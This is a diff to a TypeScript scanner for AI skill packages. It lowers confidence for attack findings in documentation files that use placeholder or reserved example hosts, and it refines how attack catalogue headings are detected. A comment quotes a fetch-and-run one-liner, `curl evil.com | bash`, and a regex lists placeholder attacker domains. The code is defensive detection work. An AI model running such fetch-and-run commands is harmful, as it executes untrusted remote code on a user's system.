@@ -32,7 +32,10 @@ function outline(text: string): Outline {
     if (inRanges(code, m.index)) continue;
     const level = m[1]!.length;
     while (stack.length > 0 && stack[stack.length - 1]!.level >= level) stack.pop();
-    const catalogue = CATALOGUE_HEADING.test(m[2]!) || stack.some((h) => h.catalogue);
+    // A heading that is one kebab/snake-case identifier ("# mcpwn-retry-exploit") is a skill's or file's name, not
+    // a section about attacks: a skill named for what it does is still the skill speaking.
+    const slug = /^[`*]*[a-z0-9]+(?:[-_][a-z0-9]+)+[`*]*$/i.test(m[2]!.trim());
+    const catalogue = (!slug && CATALOGUE_HEADING.test(m[2]!)) || stack.some((h) => h.catalogue);
     stack.push({ level, catalogue });
     headings.push({ at: m.index, catalogue });
   }
@@ -70,12 +73,46 @@ export function inCatalogue(text: string, offset: number): boolean {
   return false;
 }
 
-/** `ctx` with a report() that lowers findings in a quoted attack catalogue to low confidence. */
+/**
+ * Hosts that only documentation uses: the reserved example domains and top-level domains (RFC 2606, RFC 6761:
+ * example.com/.net/.org, *.example, *.test, *.invalid), the documentation address blocks (RFC 5737), and the
+ * placeholder attacker hosts security writing uses (attacker.com, evil.com, evil.example, malicious.example).
+ */
+export const EXAMPLE_HOST = /(?:^|[^A-Za-z0-9.-])(?:(?:[a-z0-9-]+\.)*(?:example\.(?:com|net|org)|[a-z0-9-]+\.(?:example|test|invalid))|(?:[a-z0-9-]+\.)*(?:attacker|evil|malicious|badguy|hacker|exfil)(?:-[a-z0-9-]+)?\.(?:com|net|org|io|xyz|site)|(?:192\.0\.2|198\.51\.100|203\.0\.113)\.[0-9]{1,3})(?![A-Za-z0-9-])/i;
+
+/** Documentation files of a skill package (markdown other than the skill file itself; a .txt asset is a payload carrier, not documentation). */
+const DOC_FILE = /\.(?:md|markdown|mdx|rst)$/i;
+
+/** The lines of `text` that [start, end) touches. */
+function linesOf(text: string, start: number, end: number): string {
+  const s = text.lastIndexOf('\n', start - 1) + 1;
+  let e = text.indexOf('\n', Math.max(start, end - 1));
+  if (e === -1) e = text.length;
+  return text.slice(s, Math.min(e, s + 2000));
+}
+
+/**
+ * `ctx` with a report() that lowers findings in a quoted attack catalogue to low confidence, and findings in a
+ * documentation file of the package (README.md, INSTALL.md, references/*.md — not the skill file, not scripts or
+ * configs) whose matched lines name a documentation-only host (EXAMPLE_HOST: `curl evil.com | bash` quoted in a
+ * security tool's README) to low confidence too, grouped: the first per file is reported, later ones are not
+ * repeated. The skill file, scripts and JSON keep full confidence: the labeled attack sets write their payloads
+ * there with the same example hosts, and a real attack needs a real host only in what runs.
+ */
 export function catalogueAware(ctx: SkillContext): SkillContext {
   const wrapped: SkillContext = { ...ctx };
+  const documented = new Set<string>();
   wrapped.report = (r) => {
     const text = r.source?.normalized ?? (r.file === undefined ? ctx.skill.source?.normalized : undefined);
-    if (text !== undefined && r.offset !== undefined && r.confidence !== 'low' && inCatalogue(text, r.offset)) {
+    if (text !== undefined && r.file !== undefined && DOC_FILE.test(r.file) && r.offset !== undefined && EXAMPLE_HOST.test(linesOf(text, r.offset, r.endOffset ?? r.offset))) {
+      if (documented.has(r.file)) return;
+      documented.add(r.file);
+      ctx.report({ ...r, confidence: 'low', suffix: `${r.suffix ?? ''} (documentation quoting the attack with an example host: low confidence; later quotes in this file are not repeated)` });
+      return;
+    }
+    // Headings exist only in markdown: in a script, `# Dangerous payload below` is a comment, not a section title.
+    const markdown = r.file === undefined || DOC_FILE.test(r.file);
+    if (text !== undefined && markdown && r.offset !== undefined && r.confidence !== 'low' && inCatalogue(text, r.offset)) {
       ctx.report({ ...r, confidence: 'low', suffix: `${r.suffix ?? ''} (in a section that quotes attacks: low confidence)` });
     } else ctx.report(r);
   };
